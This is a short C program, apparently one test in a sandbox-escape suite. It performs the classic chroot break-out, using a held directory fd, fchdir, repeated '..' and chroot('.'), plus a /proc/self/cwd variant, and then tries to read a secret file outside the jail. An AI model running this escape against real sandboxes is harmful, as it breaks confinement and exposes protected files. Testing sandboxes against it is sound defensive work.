/* The classic chroot break-out: hold the current folder, chroot into a
 * subfolder, fchdir back to the held fd, climb with "..", chroot(".")
 * and open the secret by its host path. */
#include "esc.h"

int main(int argc, char **argv)
{
	esc_init(argc, argv);
	CHECK("mkdir jail", mkdir("jail", 0755));
	int held = CHECK("open .", open(".", O_RDONLY | O_DIRECTORY));
	CHECK("chroot jail", chroot("jail"));
	CHECK("fchdir held", fchdir(held));
	for (int i = 0; i < 40; i++)
		chdir("..");
	CHECK("chroot .", chroot("."));
	try_read("after the break-out", AT_FDCWD, arg("secret"));
	/* The same with chroot into an fd-relative path. */
	CHECK("chroot /proc/self/cwd", chroot("/proc/self/cwd"));
	try_read("after chroot /proc/self/cwd", AT_FDCWD, arg("secret"));
	return 0;
}
